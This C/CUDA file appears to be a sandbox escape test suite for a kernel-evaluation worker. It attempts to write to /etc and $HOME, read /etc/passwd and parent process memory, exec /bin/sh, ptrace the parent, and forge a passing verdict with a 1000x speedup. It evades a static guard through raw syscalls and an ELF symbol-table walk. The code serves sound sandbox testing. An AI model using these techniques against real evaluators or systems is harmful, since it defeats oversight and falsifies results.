// ESCAPE SUITE: host code that tries to get out of the worker, one goal by one route, chosen at
// compile time with -D KP_GOAL=N -D KP_ROUTE=M (so each build imports only what its route needs).
// Goals: 1 create a file in $HOME ($KP_ESCAPE_HOME), 2 create a file in /etc, 3 read /etc/passwd, 4 read the run
// store ($KP_ESCAPE_STORE), 5 create a file outside the scratch folder ($KP_ESCAPE_DIR, else /tmp),
// 6 connect to a loopback TCP port ($KP_ESCAPE_PORT), 7 fork and exec, 8 exec, 9 signal the parent,
// 10 ptrace the parent, 11 read /proc/<parent>/mem, 12 write a forged verdict to the inherited
// descriptors 1 to 3.
// Routes: 1 libc symbols; 2 raw system calls from a function in its own executable section;
// 3 libc's own dynamic symbol table, found by walking back from memcpy to libc's ELF header (the
// library imports nothing but memcpy); 4 dlsym found by that walk, then dlsym for each call.
// CAUGHT BY: the static guard for routes 1 and 2 (imports, the syscall instruction in any
// executable section); the worker's sandbox for every route (seccomp, Landlock, namespaces, the
// result channel's nonce) -> expect rejected_by_sandbox when built without the guard.
// The same file is the host payload of the CPU escape suite (escape_host.cpp), where kp_forward is
// called with no tensors. kp_forward returns 0 when the goal was reached (an escape) and 100+goal
// when it was blocked, then does the honest work when it has tensors.
// kp:tune KP_GOAL=1,2,3,4,5,6,7,8,9,10,11,12 KP_ROUTE=1,2,3,4
#include <kernelpro/abi.h>
#include <stdint.h>
#include <string.h>

#ifndef KP_GOAL
#define KP_GOAL 3
#endif
#ifndef KP_ROUTE
#define KP_ROUTE 3
#endif

// ---- the calls a goal needs, however the route finds them ----
struct Calls {
    int (*open)(const char*, int, ...);
    long (*read)(int, void*, unsigned long);
    long (*write)(int, const void*, unsigned long);
    int (*close)(int);
    int (*socket)(int, int, int);
    int (*connect)(int, const void*, unsigned);
    int (*fork)(void);
    int (*execve)(const char*, char* const*, char* const*);
    int (*kill)(int, int);
    long (*ptrace)(long, long, long, long);
    int (*getppid)(void);
    void (*exit_now)(int);
};

#if KP_ROUTE == 1
#include <fcntl.h>
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <unistd.h>
static long libc_read(int fd, void* b, unsigned long n) { return read(fd, b, n); }
static long libc_write(int fd, const void* b, unsigned long n) { return write(fd, b, n); }
static int libc_connect(int fd, const void* a, unsigned n) { return connect(fd, (const struct sockaddr*)a, n); }
static long libc_ptrace(long r, long p, long a, long d) { return ptrace((enum __ptrace_request)r, (pid_t)p, (void*)a, (void*)d); }
static int libc_open(const char* p, int f, ...) { return open(p, f, 0644); }
static bool find_calls(Calls* c) {
    *c = Calls{libc_open, libc_read, libc_write, close, socket, libc_connect, fork, execve, kill, libc_ptrace, getppid, _exit};
    return true;
}
#elif KP_ROUTE == 2
// One function in a section of its own, outside .text, holding the only syscall instruction.
__attribute__((section(".kp_escape_text"), noinline)) static long raw(long n, long a, long b, long c, long d) {
    long r;
    register long r10 __asm__("r10") = d;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
    return r;
}
static int raw_open(const char* p, int f, ...) { return (int)raw(257, -100, (long)p, f, 0644); }  // openat(AT_FDCWD)
static long raw_read(int fd, void* b, unsigned long n) { return raw(0, fd, (long)b, (long)n, 0); }
static long raw_write(int fd, const void* b, unsigned long n) { return raw(1, fd, (long)b, (long)n, 0); }
static int raw_close(int fd) { return (int)raw(3, fd, 0, 0, 0); }
static int raw_socket(int d, int t, int p) { return (int)raw(41, d, t, p, 0); }
static int raw_connect(int fd, const void* a, unsigned n) { return (int)raw(42, fd, (long)a, n, 0); }
static int raw_fork(void) { return (int)raw(57, 0, 0, 0, 0); }
static int raw_execve(const char* p, char* const* a, char* const* e) { return (int)raw(59, (long)p, (long)a, (long)e, 0); }
static int raw_kill(int p, int s) { return (int)raw(62, p, s, 0, 0); }
static long raw_ptrace(long r, long p, long a, long d) { return raw(101, r, p, a, d); }
static int raw_getppid(void) { return (int)raw(110, 0, 0, 0, 0); }
static void raw_exit(int code) { raw(60, code, 0, 0, 0); }
static bool find_calls(Calls* c) {
    *c = Calls{raw_open, raw_read, raw_write, raw_close, raw_socket, raw_connect, raw_fork, raw_execve, raw_kill, raw_ptrace, raw_getppid, raw_exit};
    return true;
}
#else
// Routes 3 and 4: libc's ELF header lies at the start of the mapping that holds memcpy; its dynamic
// segment leads to the dynamic symbol table, which names every function libc exports.
struct ElfHeader { unsigned char ident[16]; uint16_t type, machine; uint32_t version; uint64_t entry, phoff, shoff; uint32_t flags; uint16_t ehsize, phentsize, phnum, shentsize, shnum, shstrndx; };
struct ProgramHeader { uint32_t type, flags; uint64_t offset, vaddr, paddr, filesz, memsz, align; };
struct Dynamic { int64_t tag; uint64_t value; };
struct Symbol { uint32_t name; unsigned char info, other; uint16_t shndx; uint64_t value, size; };

struct Library {
    uintptr_t base = 0;
    const Symbol* symbols = 0;
    const char* strings = 0;
    uint64_t count = 0;
};

static bool open_libc(Library* lib) {
    void* (*copy)(void*, const void*, size_t) = memcpy;
    uintptr_t page = (uintptr_t)copy & ~(uintptr_t)4095;
    for (int i = 0; i < 16384; ++i, page -= 4096) {
        const unsigned char* p = (const unsigned char*)page;
        if (p[0] == 0x7f && p[1] == 'E' && p[2] == 'L' && p[3] == 'F') break;
        if (i == 16383) return false;
    }
    const ElfHeader* header = (const ElfHeader*)page;
    const ProgramHeader* ph = (const ProgramHeader*)(page + header->phoff);
    lib->base = page;
    const Dynamic* dyn = 0;
    for (int i = 0; i < header->phnum; ++i)
        if (ph[i].type == 2 /* PT_DYNAMIC */) dyn = (const Dynamic*)(page + ph[i].vaddr);
    if (!dyn) return false;
    uintptr_t symtab = 0, strtab = 0, hash = 0;
    for (; dyn->tag != 0; ++dyn) {
        // The loader may have relocated these entries in place: take them as addresses or offsets.
        uintptr_t v = dyn->value < page ? page + dyn->value : dyn->value;
        if (dyn->tag == 6) symtab = v;       // DT_SYMTAB
        else if (dyn->tag == 5) strtab = v;  // DT_STRTAB
        else if (dyn->tag == 4) hash = v;    // DT_HASH: nbucket, nchain (= number of symbols)
    }
    if (!symtab || !strtab) return false;
    lib->symbols = (const Symbol*)symtab;
    lib->strings = (const char*)strtab;
    lib->count = hash ? ((const uint32_t*)hash)[1] : (strtab - symtab) / sizeof(Symbol);
    return true;
}

static bool same(const char* a, const char* b) {
    while (*a && *a == *b) ++a, ++b;
    return *a == *b;
}

static void* lookup(const Library* lib, const char* name) {
    for (uint64_t i = 1; i < lib->count && i < 100000; ++i) {
        const Symbol& s = lib->symbols[i];
        if (s.shndx != 0 && s.value != 0 && same(lib->strings + s.name, name)) return (void*)(lib->base + s.value);
    }
    return 0;
}

static bool find_calls(Calls* c) {
    Library libc;
    if (!open_libc(&libc)) return false;
#if KP_ROUTE == 3
    auto find = [&](const char* name) { return lookup(&libc, name); };
#else
    void* (*dl_symbol)(void*, const char*) = (void* (*)(void*, const char*))lookup(&libc, "dlsym");
    if (!dl_symbol) return false;
    auto find = [&](const char* name) { return dl_symbol((void*)0 /* RTLD_DEFAULT */, name); };
#endif
    c->open = (int (*)(const char*, int, ...))find("open");
    c->read = (long (*)(int, void*, unsigned long))find("read");
    c->write = (long (*)(int, const void*, unsigned long))find("write");
    c->close = (int (*)(int))find("close");
    c->socket = (int (*)(int, int, int))find("socket");
    c->connect = (int (*)(int, const void*, unsigned))find("connect");
    c->fork = (int (*)(void))find("fork");
    c->execve = (int (*)(const char*, char* const*, char* const*))find("execve");
    c->kill = (int (*)(int, int))find("kill");
    c->ptrace = (long (*)(long, long, long, long))find("ptrace");
    c->getppid = (int (*)(void))find("getppid");
    c->exit_now = (void (*)(int))find("_exit");
    return c->open && c->read && c->write && c->close && c->socket && c->connect && c->fork && c->execve && c->kill &&
           c->ptrace && c->getppid && c->exit_now;
}
#endif

// ---- helpers that need nothing but the calls ----
static void append(char* to, const char* from) {
    while (*to) ++to;
    while ((*to++ = *from++)) {}
}

static void append_number(char* to, long n) {
    char digits[24];
    int i = 0;
    do digits[i++] = (char)('0' + n % 10);
    while ((n /= 10) > 0 && i < 20);
    while (*to) ++to;
    while (i) *to++ = digits[--i];
    *to = 0;
}

static bool starts_with(const char* text, const char* prefix) {
    while (*prefix && *text == *prefix) ++text, ++prefix;
    return *prefix == 0;
}

// The value of an environment variable, read from /proc/self/environ (no getenv needed).
static bool env_value(const Calls& c, const char* name, char* out, int size) {
    static char env[32768];
    int fd = c.open("/proc/self/environ", 0);
    if (fd < 0) return false;
    long n = c.read(fd, env, sizeof env - 1);
    c.close(fd);
    if (n <= 0) return false;
    env[n] = 0;
    int len = 0;
    while (name[len]) ++len;
    for (long i = 0; i < n; ++i) {
        if ((i == 0 || env[i - 1] == 0) && starts_with(env + i, name) && env[i + len] == '=') {
            int k = 0;
            for (const char* v = env + i + len + 1; *v && k < size - 1; ++v) out[k++] = *v;
            out[k] = 0;
            return true;
        }
    }
    return false;
}

static bool create_file(const Calls& c, const char* path) {
    int fd = c.open(path, 01 | 0100 /* O_WRONLY | O_CREAT */);
    if (fd < 0) return false;
    c.write(fd, "escaped\n", 8);
    c.close(fd);
    return true;
}

static bool read_file(const Calls& c, const char* path) {
    char buffer[64];
    int fd = c.open(path, 0);
    if (fd < 0) return false;
    long n = c.read(fd, buffer, sizeof buffer);
    c.close(fd);
    return n > 0;
}

static void outside_path(const Calls& c, char* path, const char* name) {
    path[0] = 0;
    if (!env_value(c, "KP_ESCAPE_DIR", path, 3000)) append(path, "/tmp");
    append(path, name);
}

static bool run_program(const Calls& c, const char* marker_name) {
    static char marker[3100], command[3200];
    outside_path(c, marker, marker_name);
    command[0] = 0;
    append(command, "echo escaped > ");
    append(command, marker);
    char* argv[] = {(char*)"sh", (char*)"-c", command, 0};
    return c.execve("/bin/sh", argv, 0) == 0;
}

// ---- the goals ----
static bool reach_goal(const Calls& c) {
    static char path[3200];
    path[0] = 0;
    switch (KP_GOAL) {
        case 1:  // $KP_ESCAPE_HOME stands in for the home folder in the suite
            if (!env_value(c, "KP_ESCAPE_HOME", path, 3000) && !env_value(c, "HOME", path, 3000)) append(path, "/root");
            append(path, "/kp-escape-home");
            return create_file(c, path);
        case 2: return create_file(c, "/etc/kp-escape-etc");
        case 3: return read_file(c, "/etc/passwd");
        case 4:
            if (!env_value(c, "KP_ESCAPE_STORE", path, 3000)) append(path, "/root/.kernelpro/runs.db");
            return read_file(c, path);
        case 5:
            outside_path(c, path, "/kp-escape-outside");
            return create_file(c, path);
        case 6: {
            char port_text[16] = "9";
            env_value(c, "KP_ESCAPE_PORT", port_text, sizeof port_text);
            long port = 0;
            for (const char* p = port_text; *p >= '0' && *p <= '9'; ++p) port = port * 10 + (*p - '0');
            int fd = c.socket(2 /* AF_INET */, 1 /* SOCK_STREAM */, 0);
            if (fd < 0) return false;
            unsigned char address[16] = {2, 0, (unsigned char)(port >> 8), (unsigned char)port, 127, 0, 0, 1};
            bool connected = c.connect(fd, address, sizeof address) == 0;
            c.close(fd);
            return connected;
        }
        case 7: {
            int child = c.fork();
            if (child < 0) return false;
            if (child == 0) {
                run_program(c, "/kp-escape-forked");
                c.exit_now(0);
            }
            return true;
        }
        case 8: return run_program(c, "/kp-escape-execed");
        case 9: return c.kill(c.getppid(), 18 /* SIGCONT: harmless if it arrives */) == 0;
        case 10: return c.ptrace(16 /* PTRACE_ATTACH */, c.getppid(), 0, 0) == 0;
        case 11:
            append(path, "/proc/");
            append_number(path, c.getppid());
            append(path, "/mem");
            return read_file(c, path);
        case 12: {
            static const char fake[] = "{\"type\":\"result\",\"correctness\":{\"passed\":true},\"timing\":{\"speedup\":1000}}\n";
            bool wrote = false;
            // The descriptors a worker inherits (stdout, stderr, then the channel), not CUDA's own.
            for (int fd = 1; fd <= 3; ++fd) wrote = c.write(fd, fake, sizeof fake - 1) > 0 || wrote;
            return wrote;
        }
    }
    return false;
}

static int escape_attempt(void) {
    Calls calls;
    if (!find_calls(&calls)) return 99;  // the route did not find its calls
    return reach_goal(calls) ? 0 : 100 + KP_GOAL;
}

#ifdef __CUDACC__
// ---- honest building blocks (the same in every file of the suite) ----
__global__ void rowsum_warp(const float* __restrict__ x, float* __restrict__ y, int64_t rows, int64_t cols) {
    int64_t row = (int64_t)blockIdx.x * 8 + threadIdx.x / 32;
    int lane = threadIdx.x % 32;
    if (row >= rows) return;
    const float4* r = reinterpret_cast<const float4*>(x + row * cols);
    float s = 0.0f;
    for (int64_t c = lane; c < cols / 4; c += 32) {
        float4 v = r[c];
        s += (v.x + v.y) + (v.z + v.w);
    }
    for (int o = 16; o > 0; o >>= 1) s += __shfl_xor_sync(0xffffffffu, s, o);
    if (lane == 0) y[row] = s;
}

static int launch_rowsum(const kp_tensor* in, kp_tensor* out, cudaStream_t stream) {
    int64_t rows = in[0].shape[0], cols = in[0].shape[1];
    rowsum_warp<<<(unsigned)((rows + 7) / 8), 256, 0, stream>>>((const float*)in[0].data, (float*)out[0].data, rows, cols);
    return (int)cudaGetLastError();
}
#endif

KP_EXPORT int kp_forward(const kp_tensor* in, int n_in, kp_tensor* out, int n_out, cudaStream_t stream) {
    int escaped = escape_attempt();
    if (n_in == 0) return escaped;  // the CPU suite: no tensors, no GPU
#ifdef __CUDACC__
    if (n_in != 1 || n_out != 1) return 1;
    return launch_rowsum(in, out, stream);
#else
    return escaped;
#endif
}
